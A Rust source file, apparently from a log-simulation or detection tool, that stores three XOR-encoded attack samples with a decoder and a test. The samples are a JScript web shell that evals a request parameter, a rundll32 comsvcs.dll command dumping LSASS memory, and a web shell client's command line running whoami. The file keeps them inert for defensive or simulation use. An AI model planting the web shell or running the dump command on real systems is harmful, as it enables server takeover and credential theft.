//! Text that a scanner would take for an attack: the script of a web shell and two command lines, as public reports of
//! March 2021 show them, with an invented parameter name.
//!
//! They are inert here: written into invented logs, never run. They stand encoded, because anti-malware products look for
//! such text in any file, our sources and our binary among them.

/// Every byte is turned with this one.
const TURN: u8 = 0x5A;

/// The value of ExternalUrl that carries a script.
pub(crate) fn script() -> String {
    decoded(
        "322e2e2a6075753c7566293928332a2e7a363b343d2f3b3d3f677810093928332a2e787a282f343b2e6778293f282c3f2878643c2f34392e3335347a0a3b3d3f0516353b3e7273213f2c3b3672083f2b2f3f292e0178316d2b682263780776782f34293b3c3f787361276675293928332a2e64",
    )
}

/// The command line that copies the memory of LSASS.
pub(crate) fn memory_dump() -> String {
    decoded(
        "282f343e36366968743f223f7a1960060d33343e352d29060923292e3f37696806393537292c3929743e3636767a173334331e2f372a7a6c68627a19600633343f2e2a2f38062d2d2d2835352e063b292a343f2e053936333f342e0636293b743e372a7a3c2f3636",
    )
}

/// The command line of a well-known web shell client.
pub(crate) fn shell_command() -> String {
    decoded(
        "7839373e787a75397a393e7a753e7a7819600633343f2e2a2f38062d2d2d2835352e063b292a343f2e053936333f342e787c2d32353b37337c3f3932357a0109077c393e7c3f3932357a011f07",
    )
}

fn decoded(hex: &str) -> String {
    let byte =
        |pair: &[u8]| std::str::from_utf8(pair).ok().and_then(|p| u8::from_str_radix(p, 16).ok()).map(|b| b ^ TURN);
    let bytes: Vec<u8> = hex.as_bytes().chunks(2).filter_map(byte).collect();
    String::from_utf8_lossy(&bytes).into_owned()
}

#[cfg(test)]
mod tests {
    use std::fs;
    use std::path::Path;

    #[test]
    fn what_a_scanner_looks_for_stands_nowhere_in_plain_text() {
        let words = [super::script(), super::memory_dump(), super::shell_command()];
        assert!(words[0].contains("k7q2") && words[1].contains("628") && words[2].contains("whoami"));
        for entry in fs::read_dir(Path::new(env!("CARGO_MANIFEST_DIR")).join("src")).unwrap() {
            let text = fs::read_to_string(entry.unwrap().path()).unwrap();
            assert!(words.iter().all(|w| !text.contains(&w[9..])));
        }
    }
}
